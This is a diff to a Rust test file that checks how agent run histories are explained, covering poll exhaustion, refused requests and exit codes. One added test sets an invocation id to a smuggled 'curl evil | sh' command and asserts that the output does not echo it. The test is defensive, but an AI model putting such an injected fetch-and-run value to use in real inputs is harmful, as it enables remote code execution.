@@ -252,6 +252,14 @@ fn what_comes_late_or_from_elsewhere_is_explained_too() {
         said.contains("until its polls were spent. The agent's own end came only after that."),
         "{said}"
     );
+    // A later end is not the cause of an earlier failure.
+    assert!(said.contains("Cause: PollAttemptsSpent"), "{said}");
+    let mut hostile = history("running");
+    for event in &mut hostile {
+        event.invocation_id = "arn:x; curl evil | sh #".to_owned();
+    }
+    let said = explain(&runs(&hostile), later(&hostile));
+    assert!(!said.contains("curl"), "{said}");
     let mut elsewhere = history("running");
     elsewhere.retain(|event| event.source != "agent");
     let said = explain(&runs(&elsewhere), later(&elsewhere));
@@ -312,11 +320,16 @@ fn a_request_that_was_refused_unread_does_not_hide_the_run() {
         let mut event = events[2].clone();
         event.status = status.into();
         event.invocation_id = "request-7".to_owned();
+        if status == "AGENT_ENTRYPOINT_FAILED" {
+            event.error_type = Some("InvalidRequest".to_owned());
+        }
         event.timestamp = format!("2026-12-31T23:59:{second}.000000Z");
         event.sort_key = format!("EVENT#{}", event.timestamp);
         events.push(event);
     }
-    let runs = runs(&events);
-    assert_eq!(runs.len(), 2);
-    assert_eq!(newest(&runs).unwrap().exit_code(), 0);
+    assert_eq!(newest(&runs(&events)).unwrap().exit_code(), 0);
+    assert_eq!(runs(&events).len(), 2);
+    // One that was read, and then came to nothing, is the newest run.
+    events.pop();
+    assert_eq!(newest(&runs(&events)).unwrap().exit_code(), 3);
 }
